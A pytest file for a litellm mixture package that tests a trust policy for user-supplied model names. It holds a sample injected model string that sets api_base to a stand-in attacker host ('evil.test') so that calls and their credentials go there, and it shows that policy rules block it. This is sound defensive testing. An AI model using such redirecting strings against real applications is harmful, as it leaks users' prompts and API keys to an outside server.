"""The in-process warning of issue 12: an application that passes user-chosen model names to
litellm can apply the proxy's trust policy to them.

Without an opt-in, a model string is trusted like code (its members' params may carry
``api_base``); ``litellm_mixture.set_policy`` or ``$LITELLM_MIXTURE_POLICY`` makes every
``mixture/`` name checked as the proxy checks a client's, before any call.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys

import litellm
import pytest
import respx

import litellm_mixture
from litellm_mixture import PolicyError
from litellm_mixture.trust import policy
from tests.respx_upstream import RespxUpstream
from tests.upstream_process import ROOT

ASK = [{"role": "user", "content": "Hi"}]
REDIRECTED = 'mixture/{"steps":[{"aggregate":{"model":"openai/x","params":{"api_base":"https://evil.test/v1"}}}]}'
RULES = {"allow_members": ["openai/*"], "max_name_bytes": 4096}


@pytest.fixture(autouse=True)
def no_policy_file(monkeypatch):
    """No policy file named in the environment (the state fixture forgets a set policy)."""
    monkeypatch.delenv(policy.ENV, raising=False)


def test_without_an_opt_in_a_model_string_is_trusted_like_code(respx_upstream):
    with respx.mock(assert_all_called=False) as mock:
        evil = mock.post("https://evil.test/v1/chat/completions").mock(side_effect=RespxUpstream())
        litellm.completion(model=REDIRECTED, messages=ASK)
    assert evil.call_count == 1  # what the warning in docs/python.md is about


def test_set_policy_checks_every_name_before_any_call(respx_upstream):
    litellm_mixture.set_policy(RULES)
    with pytest.raises(PolicyError, match="rule 'allow_params'"):
        litellm.completion(model=REDIRECTED, messages=ASK)
    with pytest.raises(PolicyError, match="rule 'allow_members'"):
        litellm.completion(model="mixture/deepseek/deepseek-chat>openai/x", messages=ASK)
    with pytest.raises(PolicyError, match="rule 'max_name_bytes'"):
        litellm.completion(model="mixture/" + "openai/a+" * 1000 + "openai/b", messages=ASK)
    for stream in (False, True):
        with pytest.raises(PolicyError, match="rule 'max_calls'"):
            litellm.completion(
                model="mixture/openai/a*8>openai/b*8>openai/c", messages=ASK, stream=stream
            )
    assert respx_upstream.requests == []
    answer = litellm.completion(model="mixture/openai/a*2>openai/b", messages=ASK)
    assert answer.choices[0].message.content.endswith("aggregating 2 references")
    litellm_mixture.set_policy(None)
    litellm.completion(
        model=REDIRECTED.replace("https://evil.test/v1", "https://api.openai.com/v1"), messages=ASK
    )


@pytest.mark.slow  # a fresh Python process importing litellm
def test_a_policy_file_named_in_the_environment_applies_from_the_start(tmp_path):
    path = tmp_path / "policy.yaml"
    path.write_text("allow_members: ['openai/*']\n")
    script = (
        "import litellm, json\n"
        "try:\n"
        f"    litellm.completion(model={REDIRECTED!r}, messages={ASK!r})\n"
        "except Exception as e:\n"
        "    print(json.dumps([type(e).__name__, getattr(e, 'rule', None)]))\n"
    )
    env = {**os.environ, policy.ENV: str(path), "LITELLM_LOCAL_MODEL_COST_MAP": "True"}
    out = subprocess.run(
        [sys.executable, "-c", script],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert json.loads(out.stdout.strip().splitlines()[-1]) == ["PolicyError", "allow_params"], out
